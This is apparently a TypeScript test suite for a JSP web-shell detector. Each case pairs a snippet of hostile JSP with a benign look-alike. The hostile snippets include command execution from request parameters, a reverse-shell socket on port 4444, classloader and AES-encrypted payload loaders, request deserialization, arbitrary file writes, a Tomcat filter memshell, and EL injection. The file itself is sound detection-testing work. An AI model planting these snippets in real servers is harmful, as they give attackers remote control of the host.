import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { jspAnalyzer } from "./jsp.ts";
import type { Reason } from "./types.ts";

interface Case {
  id: string;
  severity: "malicious" | "suspicious";
  line: number;
  pos: string;
  /** A legitimate page of the same shape: must come out clean. */
  neg: string;
}

function verdict(rs: Reason[]): string {
  return rs.some((r) => r.severity === "malicious") ? "malicious" : rs.some((r) => r.severity === "suspicious") ? "suspicious" : "clean";
}

const CASES: Case[] = [
  {
    id: "jsp.input-to-exec",
    severity: "malicious",
    line: 3,
    pos: '<%\nString c = request.getParameter("c");\nProcess p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});\n%>',
    neg: '<%\nString c = request.getParameter("c");\nProcess p = Runtime.getRuntime().exec(new String[]{"/usr/bin/uptime"});\nlong mem = Runtime.getRuntime().freeMemory();\njobs.exec(c);\n%>',
  },
  {
    id: "jsp.process-exec",
    severity: "suspicious",
    line: 4,
    pos: '<%\nString id = request.getParameter("id");\nString job = (String) application.getAttribute("job");\nnew ProcessBuilder("/bin/sh", "-c", job).start();\n%>',
    neg: '<%\nString tool = application.getInitParameter("converter");\nnew ProcessBuilder(tool, "--version").start();\n%>',
  },
  {
    id: "jsp.reverse-shell",
    severity: "malicious",
    line: 3,
    pos: '<%\nProcess p = new ProcessBuilder("/bin/sh").start();\njava.net.Socket s = new java.net.Socket(request.getParameter("h"), 4444);\np.getOutputStream().write(s.getInputStream().read());\n%>',
    neg: '<%\njava.net.Socket s = new java.net.Socket("smtp.example.com", 25);\ns.getOutputStream().write(1);\n%>',
  },
  {
    id: "jsp.input-to-script",
    severity: "malicious",
    line: 3,
    pos: '<%\njavax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");\ne.eval(request.getParameter("s"));\n%>',
    neg: '<%\njavax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");\ne.put("qty", 3);\nObject price = e.eval("qty * 9.5");\n%>',
  },
  {
    id: "jsp.input-to-classloader",
    severity: "malicious",
    line: 2,
    pos: '<%!\nclass L extends ClassLoader { Class<?> d(byte[] b) { return defineClass(null, b, 0, b.length); } }\n%><%\nbyte[] b = java.util.Base64.getDecoder().decode(request.getParameter("p"));\nnew L().d(b).newInstance();\n%>',
    neg: '<%\nClassLoader cl = Thread.currentThread().getContextClassLoader();\njava.net.URL u = cl.getResource("app.properties");\n%>',
  },
  {
    id: "jsp.custom-classloader",
    severity: "suspicious",
    line: 2,
    pos: '<%!\nclass L extends ClassLoader { Class<?> d(byte[] b) { return defineClass(null, b, 0, b.length); } }\n%>',
    neg: '<%!\nclass L extends java.util.ArrayList<String> { }\n%>',
  },
  {
    id: "jsp.bcel-loader",
    severity: "malicious",
    line: 2,
    pos: '<%\nnew com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass("$$BCEL$$$l$8b$I$A$A").newInstance();\n%>',
    neg: '<%\nString s = "$ 8 dollars";\n%>',
  },
  {
    id: "jsp.input-to-reflection",
    severity: "malicious",
    line: 2,
    pos: '<%\nClass<?> k = Class.forName(request.getParameter("c"));\nk.getMethod("run").invoke(k.newInstance());\n%>',
    neg: '<%\nClass.forName("org.postgresql.Driver");\nfor (java.lang.reflect.Method m : bean.getClass().getMethods()) out.println(m.getName() + "=" + m.invoke(bean));\n%>',
  },
  {
    id: "jsp.runtime-reflection",
    severity: "malicious",
    line: 3,
    pos: '<%\nString c = request.getParameter("c");\nObject rt = Class.forName("java.lang.Run" + "time").getMethod("getRuntime").invoke(null);\n%>',
    neg: '<%\nlong free = Runtime.getRuntime().freeMemory();\n%>',
  },
  {
    id: "jsp.input-to-compiler",
    severity: "malicious",
    line: 3,
    pos: '<%\nString src = request.getParameter("src");\njavax.tools.JavaCompiler jc = javax.tools.ToolProvider.getSystemJavaCompiler();\njc.run(null, null, null, src);\n%>',
    neg: '<%\nString v = System.getProperty("java.version");\n%>',
  },
  {
    id: "jsp.embedded-class",
    severity: "malicious",
    line: 4,
    pos: `<%!\nclass L extends ClassLoader { Class<?> d(byte[] b) { return defineClass(null, b, 0, b.length); } }\n%><%\nbyte[] k = java.util.Base64.getDecoder().decode("yv66vg${"AAAANAAeCgAGABEKABIAEwgAFAoAEgAV".repeat(8)}");\nnew L().d(k).newInstance();\n%>`,
    neg: `<%\nString logo = "iVBORw0KGgo${"AAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ".repeat(8)}";\n%>`,
  },
  {
    id: "jsp.input-deserialization",
    severity: "malicious",
    line: 2,
    pos: '<%\nObject o = new java.io.ObjectInputStream(request.getInputStream()).readObject();\n%>',
    neg: '<%\nObject o = new java.io.ObjectInputStream(new java.io.FileInputStream(application.getRealPath("/WEB-INF/cache.bin"))).readObject();\n%>',
  },
  {
    id: "jsp.jndi-lookup",
    severity: "suspicious",
    line: 2,
    pos: '<%\nObject o = new javax.naming.InitialContext().lookup(request.getParameter("n"));\n%>',
    neg: '<%\nObject ds = new javax.naming.InitialContext().lookup("java:comp/env/jdbc/app");\n%>',
  },
  {
    id: "jsp.input-file-write",
    severity: "malicious",
    line: 3,
    pos: '<%\nString p = request.getParameter("p");\njava.io.FileOutputStream o = new java.io.FileOutputStream(p);\no.write(request.getParameter("d").getBytes());\n%>',
    neg: '<%\njava.io.File dir = new java.io.File(application.getRealPath("/WEB-INF/uploads"));\njava.io.FileOutputStream o = new java.io.FileOutputStream(new java.io.File(dir, java.util.UUID.randomUUID() + ".png"));\no.write(request.getParameter("d").getBytes());\n%>',
  },
  {
    id: "jsp.file-manager",
    severity: "suspicious",
    line: 2,
    pos: '<%\nfor (java.io.File r : java.io.File.listRoots()) out.print(r);\njava.io.File[] kids = new java.io.File(request.getParameter("d")).listFiles();\nnew java.io.File(request.getParameter("x")).delete();\n%>',
    neg: '<%\njava.io.File[] logs = new java.io.File(System.getProperty("catalina.base"), "logs").listFiles();\n%>',
  },
  {
    id: "jsp.memshell-inject",
    severity: "malicious",
    line: 2,
    pos: '<%\norg.apache.catalina.core.StandardContext ctx = (org.apache.catalina.core.StandardContext) o;\norg.apache.tomcat.util.descriptor.web.FilterDef d = new org.apache.tomcat.util.descriptor.web.FilterDef();\nctx.addFilterDef(d);\nctx.addFilterMapBefore(new org.apache.tomcat.util.descriptor.web.FilterMap());\n%>',
    neg: '<%\njavax.servlet.FilterRegistration r = application.getFilterRegistration("auth");\n%>',
  },
  {
    id: "jsp.el-abuse",
    severity: "malicious",
    line: 2,
    pos: '<html>\n<p>${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(param.c)}</p>',
    neg: '<html>\n<p>${fn:escapeXml(param.name)} ${pageContext.exception.getClass().name}</p>',
  },
  {
    id: "jsp.unicode-escape",
    severity: "suspicious",
    line: 2,
    pos: '<html>\n<% String \\u0061\\u0062\\u0063\\u0064\\u0065\\u0066\\u0067\\u0068\\u0069\\u006a = "x"; %>',
    neg: '<html>\n<% String zh = "\\u4f60\\u597d\\u4e16\\u754c\\u3002\\u4f60\\u597d\\u4e16\\u754c\\u3002\\u003c\\u003e"; %>',
  },
  {
    id: "jsp.sql-console",
    severity: "suspicious",
    line: 2,
    pos: '<%\njava.sql.Connection c = java.sql.DriverManager.getConnection(request.getParameter("url"), "sa", "");\nc.createStatement().executeQuery(request.getParameter("sql"));\n%>',
    neg: '<%\njava.sql.Connection c = java.sql.DriverManager.getConnection("jdbc:h2:mem:app", "sa", "");\njava.sql.PreparedStatement ps = c.prepareStatement("SELECT 1 WHERE ? = 1");\nps.setString(1, request.getParameter("a"));\n%>',
  },
];

describe("JSP heuristics (WS-1, WS-8)", () => {
  for (const c of CASES) {
    it(`WS-8 ${c.id}: flags the positive case at line ${c.line}`, () => {
      const rs = jspAnalyzer.analyze(c.pos);
      const r = rs.find((x) => x.id === c.id);
      assert.ok(r, `no ${c.id} in ${JSON.stringify(rs)}`);
      assert.equal(r.severity, c.severity);
      assert.equal(r.line, c.line);
      assert.ok((r.excerpt ?? "").length <= 120);
    });
    it(`WS-8 ${c.id}: leaves the legitimate look-alike clean`, () => {
      const rs = jspAnalyzer.analyze(c.neg);
      assert.equal(verdict(rs), "clean", JSON.stringify(rs));
    });
  }

  it("WS-8 jsp: \\u escapes are decoded as javac does, including a newline that ends a // comment", () => {
    const s = '<%\n// note \\u000a Runtime.getRuntime().exec(request.getParameter("k"));\n%>';
    assert.equal(jspAnalyzer.analyze(s).find((x) => x.id === "jsp.input-to-exec")?.line, 2);
    const t = '<%\n\\u0052untime.getRuntime().exec(request.getParameter("c"));\n%>';
    assert.equal(verdict(jspAnalyzer.analyze(t)), "malicious");
  });

  it("WS-8 jsp: JSPX scriptlets are XML-unescaped code", () => {
    const s = '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">\n<jsp:scriptlet>\nString c = request.getParameter("c");\nif (c != null &amp;&amp; c.length() &gt; 0) Runtime.getRuntime().exec(c);\n</jsp:scriptlet>\n</jsp:root>';
    assert.equal(jspAnalyzer.analyze(s).find((x) => x.id === "jsp.input-to-exec")?.line, 4);
  });

  it("WS-8 jsp: request bytes reach defineClass through a declared method's parameter (AES loader)", () => {
    const s = [
      '<%@page import="javax.crypto.*,javax.crypto.spec.*"%>',
      "<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>",
      '<%Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec("0123456789abcdef".getBytes(),"AES"));',
      "new U(this.getClass().getClassLoader()).g(c.doFinal(java.util.Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);%>",
    ].join("\n");
    const r = jspAnalyzer.analyze(s).find((x) => x.id === "jsp.input-to-classloader");
    assert.equal(r?.severity, "malicious");
    assert.equal(r?.line, 2);
  });

  it("WS-8 jsp.obfuscation: machine-folded constants are suspicious", () => {
    const body = Array.from({ length: 12 }, (_, i) => `  case ((${100000 + i} ^ 123456) ^ (654321 ^ ${200000 + i})): n++; break;`).join("\n");
    const r = jspAnalyzer.analyze(`<%\nint n = 0;\nswitch (n) {\n${body}\n}\n%>`).find((x) => x.id === "jsp.obfuscation");
    assert.equal(r?.severity, "suspicious");
    assert.equal(r?.line, 4);
  });

  it("WS-8 jsp: template text, JSP comments and strings are not code", () => {
    const s = '<p>Runtime.getRuntime().exec(request.getParameter("x"))</p>\n<%-- Runtime.getRuntime().exec(request.getParameter("y")) --%>\n<% out.print("Runtime.getRuntime().exec(request.getParameter(z))"); %>';
    assert.equal(verdict(jspAnalyzer.analyze(s)), "clean");
  });

  it("WS-8 jsp: pathological inputs finish quickly and never throw", () => {
    const inputs = ["<%" + "x".repeat(6_000_000) + "%>", "<%" + "a=b;".repeat(1_000_000) + "%>", "${".repeat(1_000_000), "<%" + "f(".repeat(400_000) + "%>", "<%" + "\\u0041".repeat(500_000) + "%>"];
    for (const s of inputs) {
      const t0 = performance.now();
      jspAnalyzer.analyze(s);
      assert.ok(performance.now() - t0 < 4000, `took too long on a ${s.length}-char input`);
    }
  });
});
